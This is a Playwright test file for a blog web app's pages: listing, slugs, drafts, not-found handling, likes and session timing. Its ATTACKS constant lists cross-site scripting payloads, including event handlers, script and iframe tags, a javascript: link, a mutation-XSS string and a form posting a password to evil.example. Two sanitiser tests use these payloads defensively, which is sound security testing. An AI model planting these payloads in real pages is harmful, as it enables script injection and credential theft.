import type { Page } from 'playwright/test'
import { changed, holdCalls, onCall } from './chat-kit.ts'
import {
  addBlog,
  expectLike,
  feed,
  likeOf,
  saveOf,
  titlesOf,
  uploadPicture,
} from './content-kit.ts'
import { expect, pageErrors, signIn, test } from './kit.ts'

const heading = { level: 1 } as const
const article = (page: Page) => page.getByRole('main').getByRole('article')

test('[ROUTE-06] anybody reads the blog, by tag and by category too', async ({ page, world }) => {
  const ayen = await world.person('Ayen')
  const tag = `craft${ayen.id}`
  await addBlog(world, ayen, { title: 'A loom', tags: [tag], category: 'Textile' })
  await addBlog(world, ayen, { title: 'A kiln', tags: [tag], category: 'Crafts' })
  await addBlog(world, ayen, { title: 'Half written', tags: [tag], published: false })
  await page.goto(`${world.server.origin}/blog`)
  await expect(page.getByRole('heading', heading)).toHaveText('Blog')
  const titles = titlesOf(feed(page, 'Blog'))
  await expect(titles.first()).toHaveText('A kiln')
  await page.goto(`${world.server.origin}/blog?tag=${tag}`)
  await expect(page.getByRole('heading', heading)).toHaveText(`Stories with #${tag}`)
  await expect(titles).toHaveText(['A kiln', 'A loom'])
  await expect(page.getByText('You have seen all the stories there are.')).toBeVisible()
  await page
    .getByRole('navigation', { name: 'Category' })
    .getByRole('link', { name: 'Textile' })
    .click()
  await expect(page).toHaveURL(`${world.server.origin}/blog?tag=${tag}&category=Textile`)
  await expect(titles).toHaveText(['A loom'])
  await page.reload()
  await expect(titles).toHaveText(['A loom'])
  await page.getByRole('link', { name: `#${tag} Drop this filter` }).click()
  await expect(page).toHaveURL(`${world.server.origin}/blog?category=Textile`)
})

test('[ROUTE-07] an entry is read by its slug and by its id', async ({ page, world }) => {
  const ayen = await world.person('Ayen')
  const cover = await uploadPicture(world, ayen)
  const entry = await addBlog(world, ayen, {
    title: `Posters of ${ayen.username}`,
    excerpt: 'Fifty-two of them.',
    body: '<h2>Why</h2><p>Because <strong>paper</strong>.</p>',
    cover: { id: cover, alt: 'A stack of posters' },
  })
  for (const segment of [entry.slug, String(entry.id)]) {
    await page.goto(`${world.server.origin}/blog/${segment}`)
    await expect(page.getByRole('heading', heading)).toHaveText(`Posters of ${ayen.username}`)
    await expect(article(page).getByText('Fifty-two of them.')).toBeVisible()
    await expect(article(page).getByText('1 min read')).toBeVisible()
    await expect(article(page).getByRole('heading', { name: 'Why' })).toBeVisible()
    await expect(article(page).locator('strong', { hasText: 'paper' })).toBeVisible()
    await expect(page.getByRole('img', { name: 'A stack of posters' })).toBeVisible()
  }
  await page.getByRole('complementary', { name: 'The author' }).getByRole('link').click()
  await expect(page).toHaveURL(`${world.server.origin}/u/${ayen.username}`)
})

test('[ROUTE-07] an old slug leads to the present address, from outside and from a list', async ({
  page,
  world,
}) => {
  const ayen = await world.person('Ayen')
  const tag = `renamed${ayen.id}`
  const before = await addBlog(world, ayen, { title: `Draft of ${ayen.username}`, tags: [tag] })
  const { origin } = world.server
  await page.goto(`${origin}/blog?tag=${tag}`)
  const listed = titlesOf(feed(page, 'Blog')).getByRole('link')
  await expect(listed).toHaveAttribute('href', `/blog/${before.slug}`)
  const after = await world.call(ayen, 'PATCH', `blog/${before.id}/`, {
    title: `Book of ${ayen.username}`,
    new_slug: true,
  })
  expect(after.slug).not.toBe(before.slug)
  await listed.click()
  await expect(page.getByRole('heading', heading)).toHaveText(`Book of ${ayen.username}`)
  await expect(page).toHaveURL(`${origin}/blog/${after.slug}`)
  await page.goBack()
  await expect(page).toHaveURL(`${origin}/blog?tag=${tag}`)
  await page.goto(`${origin}/blog/${before.slug}`)
  await expect(page).toHaveURL(`${origin}/blog/${after.slug}`)
  await expect(page.getByRole('heading', heading)).toHaveText(`Book of ${ayen.username}`)
})

test('[ERR-18] an entry that is not there is said to be, with ways on', async ({ page, world }) => {
  const main = page.getByRole('main')
  for (const segment of ['no-such-entry', '99999999']) {
    await page.goto(`${world.server.origin}/blog/${segment}`)
    await expect(page.getByRole('heading', heading)).toHaveText('Blog not found')
    await expect(main.getByRole('link', { name: 'Explore', exact: true })).toBeVisible()
  }
  await main.getByRole('link', { name: 'All stories' }).click()
  await expect(page.getByRole('heading', heading)).toHaveText('Blog')
})

test('[ROUTE-07 ERR-18] a draft is there for its author alone', async ({ page, world }) => {
  const [ayen, deng] = [await world.person('Ayen'), await world.person('Deng')]
  const entry = await addBlog(world, ayen, { title: 'Half written', published: false })
  await page.goto(`${world.server.origin}/blog/${entry.slug}`)
  await expect(page.getByRole('heading', heading)).toHaveText('Blog not found')
  await signIn(page, world, deng, `/blog/${entry.slug}`)
  await expect(page.getByRole('heading', heading)).toHaveText('Blog not found')
  await signIn(page, world, ayen, `/blog/${entry.slug}`)
  await expect(page.getByRole('heading', heading)).toHaveText('Half written')
  await expect(page.getByText('Draft: only you can see it')).toBeVisible()
})

const ATTACKS = `
  <h2>Kept</h2><p id="login" class="overlay" style="position:fixed">Words <b onclick="taken()">stay</b></p>
  <script>window.taken = 'script'</script>
  <img src="/missing.png" alt="Gone" onerror="window.taken = 'onerror'">
  <svg onload="window.taken = 'svg'"><script>window.taken = 'svg script'</script></svg>
  <iframe srcdoc="<script>parent.taken = 'frame'</script>"></iframe>
  <a href="javascript:window.taken='link'">Run</a>
  <a href="//evil.example/">Elsewhere</a>
  <a href="https://example.org/">Abroad</a>
  <form action="https://evil.example/"><input name="password"><button>Send</button></form>
  <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.taken='mutation'&gt;">
`

test('[ROUTE-07] whatever the API sends as an entry, nothing of it runs', async ({
  page,
  world,
  consoleWatch,
}) => {
  // The policy stops what is only parsed, to be cleaned, too.
  consoleWatch.allow(/^Applying inline style violates/)
  const ayen = await world.person('Ayen')
  const errors = pageErrors(page)
  const entry = await addBlog(world, ayen, { title: `Trap of ${ayen.username}` })
  await onCall(
    page,
    'GET',
    /^blog\/[^/]+\/$/,
    changed((body) => {
      body.body = ATTACKS
    }),
  )
  const failed = page.waitForResponse('**/missing.png')
  await page.goto(`${world.server.origin}/blog/${entry.slug}`)
  await expect(article(page).getByRole('heading', { name: 'Kept' })).toBeVisible()
  await failed
  const image = page.getByRole('img', { name: 'Gone' })
  await expect
    .poll(() => image.evaluate((img) => img instanceof HTMLImageElement && img.complete))
    .toBe(true)
  await article(page).getByText('Run', { exact: true }).click()
  await article(page).getByText('stay').click()
  const text = article(page).locator('h2', { hasText: 'Kept' }).locator('xpath=..')
  await expect(
    text.locator('script, svg, iframe, form, input, button, style, math, [style], [class]'),
  ).toHaveCount(0)
  await expect(text.locator('[onerror], [onload], [onclick], #login')).toHaveCount(0)
  await expect(text.locator('a[href]')).toHaveText(['Abroad'])
  const abroad = text.getByRole('link', { name: 'Abroad' })
  await expect(abroad).toHaveAttribute('rel', 'noopener nofollow ugc')
  await expect(abroad).toHaveAttribute('target', '_blank')
  expect(await page.evaluate(() => Reflect.get(window, 'taken') ?? null)).toBeNull()
  expect(errors).toEqual([])
})

test('[ROUTE-07] what an author sends is cleaned before anybody gets it', async ({
  page,
  world,
}) => {
  const ayen = await world.person('Ayen')
  const entry = await addBlog(world, ayen, {
    title: `Clean ${ayen.username}`,
    body: `<p>Read <a href="https://example.org/">this</a></p>${ATTACKS}`,
  })
  const { body } = await world.call(ayen, 'GET', `blog/by_id/${entry.id}/`)
  expect(body).not.toMatch(/<script|onerror|onload|onclick|javascript:|<iframe|<svg|<form|style=/i)
  await page.goto(`${world.server.origin}/blog/${entry.slug}`)
  await expect(article(page).getByRole('link', { name: 'this' })).toHaveAttribute(
    'rel',
    'noopener nofollow ugc',
  )
  expect(await page.evaluate(() => Reflect.get(window, 'taken') ?? null)).toBeNull()
})

test('[ROUTE-07] a long entry has a table of contents that leads to its parts', async ({
  page,
  world,
}) => {
  const ayen = await world.person('Ayen')
  const part = (name: string) => `<h2>${name}</h2>${'<p>Words and words.</p>'.repeat(30)}`
  const entry = await addBlog(world, ayen, {
    title: `Long ${ayen.username}`,
    body: ['Paper', 'Ink', 'Press'].map(part).join(''),
  })
  await page.goto(`${world.server.origin}/blog/${entry.slug}`)
  const contents = page.getByRole('navigation', { name: 'Contents' })
  await expect(contents.getByRole('link')).toHaveText(['Paper', 'Ink', 'Press'])
  const press = article(page).getByRole('heading', { name: 'Press' })
  await expect(press).not.toBeInViewport()
  await contents.getByRole('link', { name: 'Press' }).click()
  await expect(press).toBeInViewport()
  await page.goBack()
  await expect(press).not.toBeInViewport()
})

test('[PROD-09 PROD-10] an entry is liked and saved, its author followed', async ({
  page,
  world,
}) => {
  const [ayen, deng] = [await world.person('Ayen'), await world.person('Deng')]
  const title = `Glass ${ayen.username}`
  const entry = await addBlog(world, ayen, { title })
  await signIn(page, world, deng, `/blog/${entry.slug}`)
  await likeOf(page, title).click()
  await saveOf(page, title).click()
  await article(page).locator('header').getByRole('button', { name: 'Follow Ayen Deng' }).click()
  const about = `status/?type=blog&ids=${entry.id}`
  for (const list of ['likes', 'bookmarks']) {
    await expect
      .poll(() => world.call(deng, 'GET', `${list}/${about}`))
      .toEqual({ [entry.id]: true })
  }
  await expect
    .poll(async () => (await world.call(deng, 'GET', `follow/stats/${ayen.id}/`)).followers_count)
    .toBe(1)
  await page.reload()
  await expectLike(likeOf(page, title), true, 1)
  await expect(saveOf(page, title)).toHaveAttribute('aria-pressed', 'true')
  // In the head and beside their name at the end.
  await expect(page.getByRole('button', { name: 'Following Ayen Deng' })).toHaveCount(2)
})

test('[SESSION-02 A15] an entry that is on its way when the session is known arrives all the same', async ({
  page,
  world,
}) => {
  const [ayen, deng] = [await world.person('Ayen'), await world.person('Deng')]
  const title = `Late ${ayen.username}`
  const entry = await addBlog(world, ayen, { title })
  await signIn(page, world, deng, '/faq')
  const session = await holdCalls(page, 'GET', /^users\/me\/$/)
  const calls = await holdCalls(page, 'GET', /^blog\/[^/]+\/$/)
  await page.goto(`${world.server.origin}/blog/${entry.slug}`)
  await expect.poll(() => [session.held.length, calls.held.length]).toEqual([1, 1])
  await session.letGo()
  await expect(page.getByRole('button', { name: /^Account of Deng/ })).toBeVisible()
  await calls.letGo()
  await expect(page.getByRole('heading', heading)).toHaveText(title)
  await expect(likeOf(page, title)).toBeEnabled()
})

test('a story leads on to others of its author, else to others with its tag', async ({
  page,
  world,
}) => {
  const [ayen, deng] = [await world.person('Ayen'), await world.person('Deng')]
  const tags = [`paper${ayen.id}`]
  const one = await addBlog(world, ayen, { title: 'Paper one', tags })
  await addBlog(world, ayen, { title: 'Paper two' })
  const alone = await addBlog(world, deng, { title: 'Paper three', tags })
  await page.goto(`${world.server.origin}/blog/${one.slug}`)
  const own = page.getByRole('region', { name: 'More from Ayen Deng' })
  await expect(own.getByRole('heading', { level: 3 })).toHaveText(['Paper two'])
  await expect(own.getByRole('link', { name: 'All of it' })).toHaveAttribute(
    'href',
    `/blog?author=${ayen.username}`,
  )
  await page.goto(`${world.server.origin}/blog/${alone.slug}`)
  const like = page.getByRole('region', { name: `More about #paper${ayen.id}` })
  await expect(like.getByRole('listitem')).toContainText(['Ayen Deng'])
  await like.getByRole('link', { name: 'Paper one' }).click()
  await expect(page.getByRole('heading', heading)).toHaveText('Paper one')
})
